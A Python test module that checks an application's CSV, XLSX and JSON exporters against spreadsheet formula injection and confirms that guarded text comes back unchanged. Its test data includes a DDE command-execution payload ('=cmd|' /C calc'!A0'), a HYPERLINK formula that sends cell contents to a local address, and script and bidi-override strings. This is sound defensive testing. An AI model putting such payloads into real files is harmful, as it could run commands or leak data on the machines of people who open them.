"""Texts of others that begin like formulas, are markup or turn lines around: files hold them whole and without harm."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable, Sequence
from itertools import cycle
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from PySide6.QtGui import QGuiApplication
from pytestqt.qtbot import QtBot

from fleetdesk.commands.leads import CreateLead
from fleetdesk.commands.platform import fleet_platform
from fleetdesk.models.access import Role
from fleetdesk.models.ids import SystemClock, new_id
from fleetdesk.protocol import Verdict, VerdictKind
from fleetdesk.qt.look.theme import Theme
from fleetdesk.queries.filters.sql import NO_ONE
from fleetdesk.queries.lead_export import keys_of_query
from fleetdesk.queries.leads import LeadQuery
from fleetdesk.reports.formulas import guarded, like_a_formula, unguarded
from fleetdesk.reports.lead_export import export_leads
from fleetdesk.reports.lead_import import run_import
from fleetdesk.reports.left_out import write_left_out
from fleetdesk.reports.spreadsheets import open_spreadsheet
from fleetdesk.reports.table_files import FOR_EXCEL, CsvForm, table_file
from fleetdesk.sync.store.local_store import LocalStore
from fleetdesk.views.inbox.export import write_json, write_table
from fleetdesk.views.leads.doing.refused_leads import RefusedLeads
from fleetdesk.views.outbox import ShownChange
from tests.gui.views.filled import answer
from tests.unit.reports.laptop import opened

FORMULAS = (
    '=HYPERLINK("http://127.0.0.1:9/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+971501234567",
    "-5",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x01=1+1",
    "＝1+1",
    "'=1+1",
    "''+971501234567",
)
OTHERS = (
    '<b>bold</b><script>1</script>&amp;"',
    "\u202eevil\u2066 \u202aout\u2069",
    "bell\x07 and \x1b[31m",
    "two\nlines, and; more | bars\tand tabs",
    "a" + "\u0301" * 60,
    "it's plain",
    "'quoted'",
)
TEXTS = FORMULAS + OTHERS
REPOSITORY = Path(__file__).parents[3] / "fleetdesk"


# Every exporter. Each writes all the texts, in cells of their own, into a file of the kind that its name says.


def lead_export(folder: Path, path: Path) -> None:
    with opened(folder, Role.COMMERCIAL) as store:
        _leads_of(store, TEXTS)
        with store.reading() as replica:
            export_leads(replica, keys_of_query(replica, LeadQuery(), NO_ONE), path)


def rows_left_out(folder: Path, path: Path) -> None:
    """The rows of a file in which nothing names a lead are all left out."""
    source = _source(folder, path.suffix)
    with opened(folder, Role.COMMERCIAL) as store, store.reading() as replica:
        report = run_import(source, store, replica, clock=SystemClock(), dry_run=True)
    assert report.failed == len(TEXTS)
    write_left_out(report, path)


def rows_left_out_with_semicolons(folder: Path, path: Path) -> None:
    source = _source(folder, path.suffix, CsvForm(";"))
    with opened(folder, Role.COMMERCIAL) as store, store.reading() as replica:
        write_left_out(run_import(source, store, replica, clock=SystemClock(), dry_run=True), path)


def inbox_item(folder: Path, path: Path) -> None:
    shown = _refused(folder, TEXTS[0])
    write_table(path, shown, [(text, text) for text in TEXTS], [])


EXPORTERS: tuple[Callable[[Path, Path], None], ...] = (
    lead_export,
    rows_left_out,
    rows_left_out_with_semicolons,
    inbox_item,
)


@pytest.fixture(params=EXPORTERS, ids=lambda exporter: exporter.__name__)
def csv_file(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    path = tmp_path / "written.csv"
    request.param(tmp_path, path)
    return path


@pytest.fixture(params=EXPORTERS, ids=lambda exporter: exporter.__name__)
def workbook(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    path = tmp_path / "written.xlsx"
    request.param(tmp_path, path)
    return path


def test_no_cell_of_a_csv_file_begins_like_a_formula(csv_file: Path) -> None:
    with csv_file.open(encoding="utf-8-sig", newline="") as file:
        delimiter = ";" if ";" in file.readline() else ","
        file.seek(0)
        cells = [cell for row in csv.reader(file, delimiter=delimiter) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if like_a_formula(cell) and not cell.startswith("'")]


def test_no_cell_of_a_workbook_is_a_formula_nor_becomes_one_when_it_is_typed_again(workbook: Path) -> None:
    sheet = openpyxl.load_workbook(workbook).active
    assert sheet is not None
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any("HYPERLINK" in str(cell.value) for cell in texts)
    assert not [cell.value for cell in texts if cell.data_type != "s"]
    assert not [cell.value for cell in texts if like_a_formula(str(cell.value)) and not cell.quotePrefix]


def test_what_a_csv_file_holds_is_read_again_as_it_was_written(csv_file: Path) -> None:
    assert set(TEXTS) <= _cells(csv_file)


def test_what_a_workbook_holds_is_read_again_as_it_was_written(workbook: Path) -> None:
    assert set(TEXTS) <= _cells(workbook)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_leads_that_go_to_another_laptop_as_a_file_are_the_same_there(tmp_path: Path, kind: str) -> None:
    phones = [f"+97150123456{number}" for number in range(6)]
    companies = ("=HYPERLINK(1)", "-5", "@fleet", "<b>bold</b>", "'=quoted'", "\u202eturned")
    path = tmp_path / f"leads.{kind}"
    with opened(tmp_path / "here", Role.COMMERCIAL) as store:
        _leads_of(store, companies, phones=phones)
        with store.reading() as replica:
            export_leads(replica, keys_of_query(replica, LeadQuery(), NO_ONE), path, fields=("company", "phone"))
    with opened(tmp_path / "there", Role.COMMERCIAL) as store:
        with store.reading() as replica:
            run_import(path, store, replica, clock=SystemClock())
        with store.reading() as replica:
            again = tmp_path / f"again.{kind}"
            export_leads(replica, keys_of_query(replica, LeadQuery(), NO_ONE), again, fields=("company", "phone"))
    assert _cells(again) == _cells(path) >= {*companies, *phones}


def test_an_inbox_item_as_json_is_read_again_as_it_was_written(tmp_path: Path) -> None:
    for number, text in enumerate(TEXTS):
        path = tmp_path / f"{number}.json"
        shown = _refused(tmp_path / str(number), text)
        write_json(path, shown, fleet_platform().commands)
        assert json.loads(path.read_bytes())["command"]["payload"]["values"]["message"] == text


def test_a_list_that_is_copied_begins_each_line_with_a_sign_of_ours(qtbot: QtBot, theme: Theme) -> None:
    refused = RefusedLeads(theme)
    qtbot.addWidget(refused)
    refused.show_lines([f"{text}: it is lost" for text in TEXTS])
    refused.copy()
    lines = QGuiApplication.clipboard().text().split("\n")
    assert len(lines) == len(TEXTS)
    assert all(line.startswith("• ") for line in lines)


# The words that decide


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_like_a_formula_is_guarded(text: str) -> None:
    assert guarded(text).startswith("'")
    assert guarded(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", [*OTHERS, "", "'", "''", "a=b", "1-2", "x@y.example", "'tis"])
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert guarded(text) == unguarded(text) == text


@given(st.text(st.sampled_from("'=+-@＝; \t\r\n\u200bab)"), max_size=10))
def test_what_was_guarded_comes_back_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not like_a_formula(guarded(text)) or guarded(text).startswith("'")


# The code


def test_only_one_module_writes_tables_and_each_that_asks_it_to_is_walked_above() -> None:
    """Nor does anything make a PDF: what will, has to come into the walk."""
    walked = {"reports/lead_export.py", "reports/left_out.py", "views/inbox/export.py"}
    own = {"reports/table_files.py", "reports/xlsx/writing.py"}
    sources = {str(path.relative_to(REPOSITORY)): path.read_text() for path in REPOSITORY.rglob("*.py")}
    writers = ("csv.writer", "csv.DictWriter", "XlsxWriter(", "openpyxl", "reportlab", "QPdfWriter", "QPrinter")
    assert not [name for name, text in sources.items() if name not in own and any(map(text.__contains__, writers))]
    assert {name for name, text in sources.items() if "table_file(" in text} - own == walked


def _leads_of(store: LocalStore, texts: Sequence[str], *, phones: Sequence[str | None] = (None,)) -> None:
    for text, phone in zip(texts, cycle(phones), strict=False):
        values = {"last_name": "Haddad", "company": text, "message": text, "phone": phone}
        store.perform(CreateLead(id=new_id(), issued_at=SystemClock().now(), lead_id=new_id(), values=values))


def _source(folder: Path, suffix: str, form: CsvForm = FOR_EXCEL) -> Path:
    """A file as somebody else's program could have written it; no row of it names a lead."""
    path = folder / f"source{suffix}"
    with table_file(path, ["Email", "Message"], form) as table:
        for text in TEXTS:
            table.write(["", text])
    return path


def _refused(folder: Path, text: str) -> ShownChange:
    """A new lead with this text that the hub refused."""
    with opened(folder, Role.COMMERCIAL) as store:
        _leads_of(store, [text])
        answer(store, Verdict(kind=VerdictKind.REJECTED, code="invalid", reason=text, do=text))
        [change] = store.pending()
        return ShownChange(change, text)


def _cells(path: Path) -> set[str]:
    return {cell for row in open_spreadsheet(path).rows() for cell in row.cells}
